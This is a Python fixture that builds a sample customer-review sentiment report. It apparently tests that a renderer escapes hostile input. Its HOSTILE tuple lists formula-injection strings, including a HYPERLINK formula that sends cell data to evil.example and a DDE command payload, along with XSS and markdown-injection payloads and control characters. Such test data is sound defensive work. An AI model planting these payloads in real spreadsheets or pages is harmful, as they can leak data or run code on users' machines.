"""A report with all kinds of blocks and texts that try to be more than texts."""

from __future__ import annotations

from nlp_cx.report.model import (
    Chart,
    Column,
    Finding,
    Findings,
    Language,
    Missing,
    Paragraph,
    Quote,
    Quotes,
    Report,
    Section,
    Table,
)

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "<script>alert('x')</script>",
    "<r><t>rich</t></r>",
    "<img src=x onerror=alert(1)>",
    "[click me](javascript:alert(1)) ![pixel](http://evil.example/p.png)",
    "<http://evil.example> https://evil.example www.evil.example mail me@evil.example",
    "# not a heading\n\n## nor this\n\n- nor a list\n1. nor this\n> nor a quote\n---",
    "a | b | c `code` ``more`` **bold** _em_ ~~gone~~ \\| \\",
    "```\nfence\n```",
    "[ref]: http://evil.example\n[^1]: note",
    "&lt;b&gt; &#60;b&#62; &amp;",
    "nul \x00 bell \x07 escape \x1b[31m del \x7f nonchar \ufffe surrogate \ud800 turned \u202etxt",
    "_x0041_ _x0041_x0042_ stays",
    "#123 @everyone :bomb: $x^2$",
    "    indented code",
    "=",
    "",
    "很差！「态度」不好 😡👨‍👩‍👧",
    "'",
)

QUOTED = "味道好，「服务员态度差」，<b>等了</b>很久"


def make_report(language: Language = "en") -> Report:
    """Make the report."""
    volume = Table(
        "volume",
        "Texts by month",
        (
            Column("period_start", "Month", "time"),
            Column("n", "Texts", "count"),
            Column("share", "Negative", "share", low="share_low", high="share_high",
                   help="Share of texts that are negative on balance."),
            Column("share_low", "Negative, low", "share"),
            Column("share_high", "Negative, high", "share"),
            Column("is_partial", "Partial", "label"),
        ),
        (
            ("2025-01", 1200, 0.25, 0.2, 0.3, False),
            ("2025-02", 1300, 0.5, 0.45, 0.55, False),
            ("2025-03", 12, None, None, None, True),
        ),
        ("The last month is not over.",),
    )  # fmt: skip
    drivers = Table(
        "driver_shares",
        "Drivers",
        (
            Column("driver", "Driver", "label"),
            Column("polarity", "Polarity", "label"),
            Column("share", "Share", "share"),
            Column("change", "Change", "signed"),
            Column("cost", "Cost", "money"),
            Column("mean", "Mean", "number"),
            Column("seen_at", "Last seen", "time"),
        ),
        (
            ("service", "negative", 0.2, -0.05, 61600.0, 3.14159, "2025-03-31T10:00:00"),
            ("service", "positive", 0.1, 0.05, None, 4.0, "2025-03-30"),
            ("price", "negative", 0.4, 0.0, 12.5, None, "2025-W05"),
            ("price", "positive", 0.3, 0.001, 1.0, 0.0001, "1850-01-01"),
        ),
    )
    hostile = Table(
        "hostile/[texts]:*?'",
        "=Hostile | texts",
        (Column("text", "=Text", "text"), Column("label", "@label|`", "label")),
        tuple((text, text) for text in HOSTILE),
        HOSTILE,
    )
    quotes = Quotes(
        "exemplars",
        "What customers say",
        (
            Quote(QUOTED, 4, 12, "service", "negative",
                  {"id": "=1", "date": "2025-03-01"}, "north"),
            Quote("so good", 0, 7, "product", "positive", {"id": "R2"}, None),
            *(Quote(text, 0, len(text), "price", "negative", {"id": text}, text)
              for text in HOSTILE if text),
        ),
        {"service": "service", "product": "product"},
        {"negative": "negative", "positive": "positive"},
        "Region",
        ("The most typical ones.",),
    )  # fmt: skip
    findings = Findings(
        "findings",
        "What matters now",
        (
            Finding("Service is worse than a month ago.", 1300, "driver_shares", 0.05, 0.02, 0.08,
                    "share", "bad"),
            Finding("=cmd|x <b>bold</b>", 3, "overview"),
            Finding("No evidence.", 3, "nowhere", 2.0),
        ),
        ("At most five.",),
    )  # fmt: skip
    line = {
        "mark": {"type": "line", "point": True},
        "encoding": {
            "x": {"field": "period_start", "type": "temporal"},
            "y": {"field": "share", "type": "quantitative"},
        },
    }
    bars = {
        "layer": [
            {"mark": "bar", "encoding": {"color": {"field": "polarity", "type": "nominal"},
                                         "yOffset": {"field": "polarity"}}},
            {"mark": "text", "encoding": {"text": {"field": "share"}}},
        ],
        "encoding": {
            "y": {"field": "driver", "type": "nominal"},
            "x": {"field": "share", "type": "quantitative"},
        },
    }  # fmt: skip
    return Report(
        "Eavesworth <2025>",
        language,
        "345 reviews",
        (
            Section("now", "What matters", (findings, Paragraph("Two lines.\nOf text."))),
            Section(
                "overview",
                "Overview",
                (
                    Chart(volume, line, "The negative share doubled in February."),
                    Chart(drivers, bars, "Price is spoken of most."),
                    Table("empty", "Nothing", (Column("n", "n", "count"),), ()),
                    volume,
                ),
                "How to read it.",
            ),
            Section("evidence", "Evidence", (hostile, quotes)),
            Section(
                "models",
                "Models",
                (
                    Missing("Cost", "No column tells who complained.", "Give `complained`."),
                    *(Paragraph(text) for text in HOSTILE if text),
                    *(Missing(text, text, text) for text in HOSTILE if text),
                ),
            ),
        ),
        currency='C"NY',
    )
